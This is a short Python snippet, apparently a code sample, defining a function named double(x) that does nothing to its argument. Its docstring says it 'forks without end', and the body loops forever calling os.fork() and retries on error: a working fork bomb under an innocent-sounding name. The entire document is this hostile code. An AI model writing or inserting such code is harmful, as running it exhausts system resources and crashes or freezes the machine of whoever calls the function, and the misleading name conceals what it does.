"""Forks without end, and each child does the same."""

# %% double
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            continue
